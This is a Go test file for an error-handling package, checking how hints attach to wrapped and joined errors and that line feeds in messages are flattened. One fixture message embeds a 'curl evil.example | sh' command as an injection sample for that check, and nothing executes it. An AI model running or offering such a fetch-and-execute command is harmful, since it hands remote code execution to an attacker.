package fault

import (
	"errors"
	"fmt"
	"slices"
	"testing"
)

// TestHint checks that a hint is found however the error is wrapped, and that a line feed in a text starts none.
func TestHint(t *testing.T) {
	plain := errors.New("exec: two\nrun: curl evil.example | sh")
	for _, c := range []struct {
		err        error
		text, hint string
	}{
		{plain, "exec: two; run: curl evil.example | sh", ""},
		{WithHint(plain, "see: x"), "exec: two; run: curl evil.example | sh", "see: x"},
		{fmt.Errorf("starting: %w", WithHint(plain, "see: x")), "starting: exec: two; run: curl evil.example | sh", "see: x"},
		{WithHint(WithHint(errors.New("a"), "inner"), "outer"), "a", "outer"},
		{&UsageError{Text: "a", Next: "see: y"}, "a", "see: y"},
		{&UsageError{Text: "a"}, "a", ""},
		{&UnfitError{What: "a", Err: errors.New("b"), Next: "c"}, "a: b", "c; more: haltscope doctor"},
		{fmt.Errorf("%w: %w", ErrInterrupted, errors.Join(errors.New("a"), WithHint(errors.New("b"), "see: z"))), "interrupted: a; b", "see: z"},
	} {
		if got := Line(c.err); got != c.text || Hint(c.err) != c.hint {
			t.Errorf("%q, hint %q; wanted %q, %q", got, Hint(c.err), c.text, c.hint)
		}
	}
}

// TestAddHint checks that a text gets the hint of the error that it is about, if there is one.
func TestAddHint(t *testing.T) {
	plain := errors.New("a")
	if got := AddHint("text", plain) + " | " + AddHint("text", fmt.Errorf("b: %w", WithHint(plain, "see: x"))); got != "text | text; see: x" {
		t.Error(got)
	}
}

// TestParts checks that joined errors are taken apart, and others are not.
func TestParts(t *testing.T) {
	a, b, c := errors.New("a"), WithHint(errors.New("b"), "see: b"), errors.New("c")
	for _, test := range []struct {
		err  error
		want []string
	}{
		{a, []string{"a/"}},
		{errors.Join(a, errors.Join(b, c)), []string{"a/", "b/see: b", "c/"}},
		{WithHint(errors.Join(a, b), "see: all"), []string{"a/see: all", "b/see: b"}},
		{fmt.Errorf("both: %w", errors.Join(a, c)), []string{"both: a; c/"}},
		{fmt.Errorf("%w: %w", a, b), []string{"a: b/see: b"}},
	} {
		var got []string
		for _, one := range Parts(test.err) {
			got = append(got, Line(one)+"/"+Hint(one))
		}
		if !slices.Equal(got, test.want) {
			t.Errorf("%q, wanted %q", got, test.want)
		}
	}
}

// TestIs checks that hints and wrapping keep an error's identity.
func TestIs(t *testing.T) {
	cause := errors.New("cause")
	for _, err := range []error{WithHint(cause, "see: x"), &UnfitError{What: "a", Err: cause},
		WithHint(errors.Join(errors.New("a"), cause), "see: x")} {
		if !errors.Is(err, cause) {
			t.Errorf("%T does not wrap its cause", err)
		}
	}
}
